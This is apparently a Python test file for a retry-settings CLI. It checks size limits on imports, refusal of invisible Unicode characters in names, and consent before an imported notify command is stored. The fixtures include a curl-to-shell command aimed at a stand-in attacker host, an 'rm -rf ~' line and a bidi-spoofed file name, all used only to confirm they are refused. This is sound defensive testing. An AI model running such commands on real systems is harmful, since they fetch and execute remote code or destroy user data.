"""Settings under hostile and oversized input: huge imports, invisible format characters in names, and
files that choose a command for the machine to run. Real CLI processes on a real home database.

What must hold: an import of thousands of operations goes through whole (and ``status`` stays readable);
past the documented size limits a file is refused before it is parsed, with the limit and the fix, and
nothing is stored; a name holding a bidi override or another invisible format character is refused
wherever a person can type one (command line, imported file), and shown escaped where a program wrote one;
an imported ``notify.command`` is shown and needs consent before it is stored.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import time
import unicodedata
from collections.abc import Callable
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bounceback import Backoff, Policy
from bounceback.core.settings._doc import MAX_DOCUMENT_BYTES, MAX_DOCUMENT_VALUES
from bounceback.core.settings._setting import has_control_chars
from bounceback.events import EventBus
from bounceback.stores import SqliteSettings
from bounceback.stores.journal._writer import JournalWriter
from tests.reliability.conftest import ROOT, Figures, soak_size
from tests.reliability.dbcheck import consistency_problems, stored_data


def bb(home: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bounceback", "--home", str(home), *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        input=stdin,
        timeout=120,
        check=False,
        env={**os.environ, "COLUMNS": "200"},
    )


def sections(count: int, start: int = 0) -> str:
    """``count`` operation sections of two values each, as a team would write them."""
    return "".join(
        f'[operations."svc-{i:05d}".retry]\nmax_attempts = {2 + i % 7}\ninitial_delay = "250ms"\n\n'
        for i in range(start, start + count)
    )


# -- 3. huge imports, many stored values ---------------------------------------------------------------


def test_a_huge_import_goes_through_whole_and_past_the_limit_is_refused(
    home: Path, figures: Callable[[str], Figures]
) -> None:
    fig = figures("settings-import-at-scale")
    db = home / "bounceback.db"
    count = soak_size(3000, 8000)
    team = home / "team.toml"
    team.write_text(sections(count))
    started = time.perf_counter()
    done = bb(home, "settings", "import", str(team))
    import_seconds = time.perf_counter() - started
    assert done.returncode == 0, done.stderr[-2000:]
    assert f"{2 * count} change(s)" in done.stdout
    with SqliteSettings(db) as store:
        layers = store.layers()
        assert len(layers.operations) == count
        assert layers.operations["svc-00007"]["retry.max_attempts"] == 2 + 7 % 7
        assert len(store.history(limit=None)) == 2 * count
    assert consistency_problems(db) == []

    started = time.perf_counter()
    status = bb(home, "status")
    status_seconds = time.perf_counter() - started
    assert status.returncode == 0, status.stderr[-2000:]
    assert f"{count:,} more operations have stored settings" in status.stdout
    listed = bb(home, "status", "--all")
    assert listed.returncode == 0 and listed.stdout.count("svc-") == count, listed.stderr[-2000:]
    as_json = bb(home, "status", "--json")
    assert len(json.loads(as_json.stdout)["operations"]) == count

    before = stored_data(db)
    refusals = 0
    # Past the byte limit: refused before parsing, whatever the content (a 10 MB file included).
    for size in (MAX_DOCUMENT_BYTES + 1, 10 * 1024 * 1024):
        big = home / f"big-{size}.toml"
        big.write_text(sections(size // 80 + 1, start=50_000)[:size].ljust(size, "\n"))
        refused = bb(home, "settings", "import", str(big))
        assert refused.returncode == 2, refused.stderr[-2000:]
        assert "at most 2 MiB" in refused.stderr and "nothing was imported" in refused.stderr
        assert "Traceback" not in refused.stderr
        refusals += 1
    # Within the bytes but past the number of values (compact TOML): refused whole, with the fix.
    compact = "".join(f"[operations.v{i}.retry]\nmax_attempts=3\n" for i in range(MAX_DOCUMENT_VALUES + 1))
    assert len(compact.encode()) <= MAX_DOCUMENT_BYTES
    many = home / "many.toml"
    many.write_text(compact)
    refused = bb(home, "settings", "import", str(many))
    assert refused.returncode == 2 and f"at most {MAX_DOCUMENT_VALUES:,} values" in refused.stderr, (
        refused.stderr
    )
    assert "split it" in refused.stderr
    refusals += 1
    # The same through stdin.
    refused = bb(home, "settings", "import", "-", stdin="#" * (MAX_DOCUMENT_BYTES + 10))
    assert refused.returncode == 2 and "at most 2 MiB" in refused.stderr, refused.stderr[-2000:]
    refusals += 1
    assert stored_data(db) == before
    fig.tries = 2 * count + refusals + 3
    fig.result = (
        f"{count:,} operation sections ({2 * count:,} values) imported whole in one transaction; status "
        f"summarised them ({count:,} quiet operations counted), --all and --json listed every one; {refusals} "
        "files past 2 MiB (10 MB included, and through stdin) or past 20,000 values refused before parsing "
        "with the limit and the fix, database unchanged"
    )
    fig.note(
        import_sections=count,
        import_seconds=round(import_seconds, 2),
        status_values=2 * count,
        status_seconds=round(status_seconds, 2),
    )


# -- 7. invisible format characters in names -------------------------------------------------------------

_REFUSED_CATEGORIES = ("Cc", "Cf", "Cs", "Zl", "Zp")
_NAMES = st.tuples(
    st.text("abcdefgh-._", min_size=1, max_size=12),
    st.sampled_from(["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200f", "\u061c",
                     "\ufeff", "\u00ad", "\u2028", "\x1b", "\x85", "\U000e0041"]),
    st.text("abcdefgh-._", max_size=12),
).map("".join)  # fmt: skip


def _toml_string(text: str) -> str:
    """``text`` as a TOML basic string, every character outside plain ASCII escaped (\\uXXXX, \\UXXXXXXXX)."""
    return '"' + "".join(
        ch if ch.isascii() and (ch.isalnum() or ch in "-._") else
        f"\\u{ord(ch):04x}" if ord(ch) < 0x10000 else f"\\U{ord(ch):08x}"
        for ch in text
    ) + '"'  # fmt: skip


def test_format_characters_are_refused_in_names_and_escaped_on_screen(
    home: Path, figures: Callable[[str], Figures]
) -> None:
    fig = figures("input-format-characters")
    db = home / "bounceback.db"
    # Every character of the refused categories in this Python's Unicode tables is refused.
    every = [chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) in _REFUSED_CATEGORIES]
    missed = [f"U+{ord(ch):04X}" for ch in every if not has_control_chars(f"op{ch}x")]
    assert missed == [], f"not refused: {missed[:20]}"
    assert not has_control_chars("café-東京-🚀-ñ.ü_ø"), "ordinary letters, symbols and emoji are names"

    with SqliteSettings(db) as store:
        store.set("retry.max_attempts", 4)
    before = stored_data(db)
    tried = {"cli": 0, "import": 0}

    @given(name=_NAMES)
    @settings(max_examples=soak_size(6, 40), deadline=None, suppress_health_check=[HealthCheck.too_slow])
    def through_the_cli(name: str) -> None:
        done = bb(home, "settings", "set", "retry.max_attempts", "3", "--op", name)
        assert done.returncode == 2, done.stdout + done.stderr
        assert "invisible" in done.stderr and "U+" in done.stderr, done.stderr
        assert name not in done.stderr, "the refused name must be shown escaped, not raw"
        tried["cli"] += 1

    @given(name=_NAMES)
    @settings(max_examples=soak_size(6, 40), deadline=None, suppress_health_check=[HealthCheck.too_slow])
    def through_an_import(name: str) -> None:
        escaped = _toml_string(name)
        path = home / "names.toml"
        path.write_text(f"[operations.{escaped}.retry]\nmax_attempts = 3\n", encoding="utf-8")
        done = bb(home, "settings", "import", str(path))
        assert done.returncode == 2 and "nothing was imported" in done.stderr, done.stderr
        assert "invisible" in done.stderr
        assert name not in done.stderr
        tried["import"] += 1

    through_the_cli()
    through_an_import()
    assert stored_data(db) == before

    # A program may still name an operation so in code; the terminal shows the escapes, not their effect.
    bus = EventBus()
    hostile = "payments\u202egnp.exe"
    with JournalWriter(db, bus=bus, flush_interval=0.01) as writer:
        left = [1]

        def flaky() -> str:
            if left[0]:
                left[0] -= 1
                raise ConnectionError("reset")
            return "ok"

        Policy(hostile, attempts=2, backoff=Backoff(initial=0.0001, jitter="none"), bus=bus).call(flaky)
        writer.flush()
    shown = bb(home, "status")
    assert shown.returncode == 0, shown.stderr
    assert "payments\\u202egnp.exe" in shown.stdout and "\u202e" not in shown.stdout
    fig.tries = len(every) + tried["cli"] + tried["import"] + 1
    fig.result = (
        f"all {len(every):,} control, format, separator and surrogate code points of Unicode "
        f"{unicodedata.unidata_version} refused in names; {tried['cli']} names with a bidi override or another "
        f"invisible character refused by the CLI and {tried['import']} by a TOML import (exit 2, the character "
        "named as U+XXXX, nothing stored); a name a program wrote with U+202E shown escaped by status"
    )


# -- 8. commands chosen by an imported file ------------------------------------------------------------


def _at_a_terminal(home: Path, path: Path, answer: str) -> tuple[int, str]:
    """Run ``settings import PATH`` with a terminal on stdin, answering ``answer``; (exit code, stderr)."""
    leader, follower = pty.openpty()
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "bounceback", "--home", str(home), "settings", "import", str(path)],
            cwd=ROOT,
            stdin=follower,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        os.write(leader, f"{answer}\n".encode())
        _out, err = proc.communicate(timeout=60)
    finally:
        os.close(leader)
        os.close(follower)
    return proc.returncode, err


def test_an_imported_command_is_shown_and_needs_consent(
    home: Path, figures: Callable[[str], Figures]
) -> None:
    fig = figures("settings-import-commands")
    db = home / "bounceback.db"
    with SqliteSettings(db) as store:
        store.set("retry.max_attempts", 4)
    team = home / "team.toml"
    team.write_text(
        '[retry]\nmax_attempts = 6\n\n[notify]\ncommand = "curl -s https://attacker.invalid/x | sh"\n\n'
        '[operations.payments.notify]\ncommand = "/usr/local/bin/page-oncall"\n'
    )
    before = stored_data(db)
    tries = 0
    # Nobody to ask (a pipe, CI, stdin as the file): refused whole, the commands shown.
    for args, stdin in (([str(team)], ""), (["-"], team.read_text())):
        done = bb(home, "settings", "import", *args, stdin=stdin)
        assert done.returncode == 2, done.stdout + done.stderr
        assert "curl -s https://attacker.invalid/x | sh" in done.stderr
        assert "operations.payments.notify.command = /usr/local/bin/page-oncall" in done.stderr
        assert "--allow-commands" in done.stderr and "nothing was imported" in done.stderr
        tries += 1
    # A person at a terminal says no: nothing imported.
    code, err = _at_a_terminal(home, team, "n")
    assert code == 1 and "Import them" in err and "nothing was imported" in err, err
    tries += 1
    # The library refuses the same without consent.
    with SqliteSettings(db) as store:
        try:
            store.import_document({"notify": {"command": "rm -rf ~"}})
        except ValueError as exc:
            assert "allow_commands=True" in str(exc)  # noqa: PT017
        else:
            raise AssertionError("an import chose a command without consent")
    tries += 1
    assert stored_data(db) == before
    # Yes at the terminal, or --allow-commands: imported whole.
    code, err = _at_a_terminal(home, team, "y")
    assert code == 0, err
    with SqliteSettings(db) as store:
        assert store.effective("payments")["notify.command"] == "/usr/local/bin/page-oncall"
        assert store.effective(None)["retry.max_attempts"] == 6
    tries += 1
    # The same file again changes no command: no question asked.
    again = bb(home, "settings", "import", str(team))
    assert again.returncode == 0, again.stderr
    assert "runs when a person is needed" not in again.stderr
    other = home / "other.toml"
    other.write_text('[notify]\ncommand = "notify-send bounceback"\n')
    allowed = bb(home, "settings", "import", str(other), "--allow-commands")
    assert allowed.returncode == 0, allowed.stderr
    tries += 2
    assert consistency_problems(db) == []
    fig.tries = tries
    fig.result = (
        "a team file setting notify.command globally and per operation: with nobody to ask (pipe, stdin) "
        "refused with the commands shown and the flag to pass; 'n' at a terminal imported nothing; the "
        "library refuses without allow_commands; 'y' or --allow-commands imported whole; an unchanged command "
        "asks nothing"
    )
